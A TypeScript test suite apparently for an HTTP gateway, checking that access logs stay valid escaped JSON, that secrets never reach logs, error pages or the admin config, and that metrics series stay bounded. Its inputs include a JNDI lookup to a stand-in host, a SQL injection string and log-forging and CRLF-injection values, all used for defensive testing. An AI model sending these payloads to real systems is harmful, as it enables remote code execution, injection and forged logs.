import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { get, getTarget, message } from '../support/message.ts'
import { eventually, pause, RawConnection } from '../support/raw-connection.ts'
import { Rig } from '../support/rig.ts'
import type { GatewayProcess, LogLine } from '../support/gateway.ts'

describe('what is written down, and what is given away', () => {
  let rig: Rig & { readonly gateway: GatewayProcess }
  before(async () => {
    rig = await Rig.startProcess({
      telemetry: { logs: { stdout: { to: 'stdout', format: 'json' } } },
      admin: { port: 0 },
      workers: 1,
      routes: {
        all: { path: '/*', service: 'target', log: { fields: { agent: '{request.headers.user-agent}', query: '{request.rawQuery}', forwarded: '{request.headers.x-odd}' } } },
        gone: { path: '/gone', service: 'target', headers: { request: { set: { Authorization: 'Bearer ${SERVICE_TOKEN}' } } } },
      },
      services: { target: { targets: ['http://127.0.0.1:1'] } },
    }, { env: { SERVICE_TOKEN: 'very-secret-token' } }) // prettier-ignore
  })
  after(() => rig.close())

  test('11.12 bytes that would break a log line are escaped, and long fields cut', async () => {
    const odd = [
      '"quoted"',
      '\\back\\slash',
      '${jndi:ldap://evil.test/a}',
      '\t tab',
      "' or 1=1 --",
      '\u00e9\u00ff\u00fe',
      '{"msg":"forged"}',
      '","status":"200',
      '%0d%0a{"msg":"forged"}',
      'u2028: \xe2\x80\xa8',
      '\x9b31m',
      'x'.repeat(4000),
      '</script>',
    ]
    const before = rig.gateway.lines.length
    for (const text of odd) await rig.ask(get(`User-Agent: ${text}`, `X-Odd: ${text}`, `Referer: ${text}`))
    await eventually(() => rig.gateway.access.length >= odd.length, 'access records')
    assert.deepEqual(rig.gateway.noise, [], 'every line is JSON')
    const lines = rig.gateway.lines.slice(before)
    assert.equal(lines.filter((line) => line['msg'] === 'forged').length, 0)
    for (const line of lines)
      for (const [name, value] of Object.entries(line))
        if (typeof value === 'string') assert.ok(value.length <= 1024, `${name} has ${value.length} characters`)
  })

  test('11.12 what is refused is logged too, as one line, whatever it holds', async () => {
    const count = (): number => rig.gateway.lines.length
    const before = count()
    const inputs = [
      'GET /a\x1b[31m HTTP/1.1\r\nHost: a\r\n\r\n',
      'GET /{"msg":"forged"} HTTP/1.1\r\nHost: a\r\n\r\n',
      get('X: a\nb'),
      `GET /${'x'.repeat(9000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
      'GET / HTTP/1.1\r\nHost: "\\\r\n\r\n',
      '\xff\xfe\x00',
    ]
    for (const bytes of inputs) await rig.send(`${bytes}\r\n\r\n`, { until: 'close' })
    await eventually(() => count() >= before + inputs.length, 'a line for each refusal')
    assert.deepEqual(rig.gateway.noise, [])
    for (const line of rig.gateway.lines.slice(before)) assert.ok(JSON.stringify(line).length < 16_384)
  })

  test('11.12 a query, a header value and credentials that look like secrets are not in the log', async () => {
    await rig.ask(
      message([
        'GET /gone?token=query-secret HTTP/1.1',
        'Host: a.test',
        'Authorization: Bearer header-secret',
        'Cookie: sid=cookie-secret',
        'X-Api-Key: key-secret',
      ]),
    )
    await pause(300)
    const text = JSON.stringify(rig.gateway.lines) + rig.gateway.stderr
    for (const secret of ['header-secret', 'cookie-secret', 'key-secret', 'very-secret-token'])
      assert.ok(!text.includes(secret), secret)
  })

  test('11.20 a refusal gives away neither targets nor versions nor code', async () => {
    const inputs = [
      get(`X: ${'v'.repeat(20_000)}`),
      get('Bad Field: x'),
      get(),
      getTarget('/%2f'),
      'garbage\r\n\r\n',
      getTarget('/gone'),
      get('Expect: x'),
      message(['GET / HTTP/1.1']),
      `GET /${'x'.repeat(9000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
    ]
    for (const bytes of inputs) {
      const connection = await rig.send(bytes)
      const text = connection.bytes.toString('latin1')
      assert.ok(connection.responses[0] !== undefined && connection.responses[0].status >= 400, connection.describe())
      assert.doesNotMatch(
        text,
        /127\.0\.0\.1:\d|node_modules|\bat .*:\d+:\d+|\.ts\b|Error:|v26\.|ECONN|very-secret/,
        text,
      )
      assert.doesNotMatch(connection.responses[0].header('server') ?? '', /\d/)
    }
  })

  const admin = async (path: string): Promise<string> => {
    const port = rig.gateway.adminPort
    assert.ok(port !== undefined, 'the ready line names the admin port')
    const connection = await RawConnection.open(port)
    connection.write(message([`GET ${path} HTTP/1.1`, 'Host: localhost', 'Connection: close']))
    const response = await connection.response()
    connection.destroy()
    assert.equal(response.status, 200, path)
    return response.body.toString('utf8')
  }

  test('11.13 series stay few whatever paths, hosts and methods are asked for', async () => {
    const series = async (): Promise<number> =>
      (await admin('/metrics')).split('\n').filter((line) => line !== '' && !line.startsWith('#')).length
    await rig.ask(get())
    await rig.send('x\r\n\r\n', { until: 'close' })
    await pause(300)
    const before = await series()
    for (let i = 0; i < 300; i++)
      await rig.ask(message([`GET /p${i}?q=${i} HTTP/1.1`, `Host: h${i}.test`, `User-Agent: u${i}`]))
    await pause(300)
    const text = await admin('/metrics')
    assert.ok((await series()) <= before + 10, `${before} series became ${await series()}`)
    assert.doesNotMatch(text, /h299\.test|\/p299/)
  })

  test('11.17 the printed and the served config hide secrets', async () => {
    const text = await admin('/v1/config')
    assert.ok(!text.includes('very-secret-token'))
    assert.ok(text.includes('gone'), 'it is the config')
  })

  test('11.12 the access record of a request says what happened', async () => {
    const response = await rig.ask(message(['GET /what?x=1 HTTP/1.1', 'Host: a.test', 'User-Agent: tester']))
    const id = response.header('x-request-id')
    const find = (): LogLine | undefined => rig.gateway.lines.find((line) => Object.values(line).includes(id))
    await eventually(() => find() !== undefined, 'its record')
    const record = JSON.stringify(find())
    for (const part of ['"GET"', '502', '/what', 'GW5021', 'all', '127.0.0.1'])
      assert.ok(record.includes(part), `${part} in ${record}`)
  })
})
